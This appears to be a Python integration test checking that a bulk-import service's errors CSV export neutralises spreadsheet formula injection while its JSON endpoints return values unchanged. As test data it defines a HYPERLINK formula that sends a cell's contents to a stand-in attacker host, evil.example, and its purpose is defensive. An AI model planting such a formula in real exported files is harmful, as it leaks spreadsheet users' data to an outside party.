"""The errors CSV neutralises cells a spreadsheet would evaluate; the JSON reads keep every value exact.

The job is carried through by the pipeline's own functions (`report_support.drive_job`).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from litestar import Litestar
from litestar.testing import TestClient

from tests.integration.api_support import (
    end_open_jobs,
    make_settings,
    make_tenant,
    newest_account_id,
    running_client,
    unique_email,
)
from tests.integration.report_support import created_job, drive_job

pytestmark = [pytest.mark.postgres, pytest.mark.clickhouse]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_EMAIL = "=2+2@x.example"


@pytest.fixture(scope="module")
def client(database_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient[Litestar]]:
    before = newest_account_id(database_url)
    yield from running_client(make_settings(tmp_path_factory.mktemp("api-csv")), database_url)
    end_open_jobs(database_url, before)


def test_the_errors_csv_neutralises_formulas_and_json_keeps_them_exact(
    client: TestClient[Litestar], database_url: str
) -> None:
    tenant = make_tenant(client, "Spreadsheet")
    records = [
        {"email": FORMULA_EMAIL, "phone": "not a phone"},  # a formula-looking email, failed on its phone
        {"email": HYPERLINK, "first_name": HYPERLINK},  # a formula where the email goes
        {"email": unique_email("fine"), "first_name": "-Dash", "company": "@Acme"},
    ]
    job_id = created_job(client, tenant.editor, {"action": "import", "records": records})
    drive_job(client, database_url, job_id)
    job = client.get(f"/bulk-actions/{job_id}", headers=tenant.viewer).json()
    assert (job["status"], job["succeeded"], job["failed"]) == ("completed_with_errors", 1, 2)

    as_json = client.get(f"/bulk-actions/{job_id}/errors", headers=tenant.viewer).json()
    assert sorted(i["email"] for i in as_json["items"]) == sorted([FORMULA_EMAIL, HYPERLINK])
    logs = client.get(f"/bulk-actions/{job_id}/logs?outcome=failed", headers=tenant.viewer).json()
    assert sorted(i["email"] for i in logs["items"]) == sorted([FORMULA_EMAIL, HYPERLINK])

    answer = client.get(f"/bulk-actions/{job_id}/errors", headers=tenant.viewer | {"Accept": "text/csv"})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert "\n=" not in answer.text and not answer.text.startswith("=")
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert sorted(r["email"] for r in rows) == sorted(["'" + FORMULA_EMAIL, "'" + HYPERLINK])
    assert {r["code"] for r in rows} == {"invalid_phone", "invalid_email"}
    for row in rows:
        assert not row["message"].startswith(("=", "+", "-", "@", "\t", "\r"))
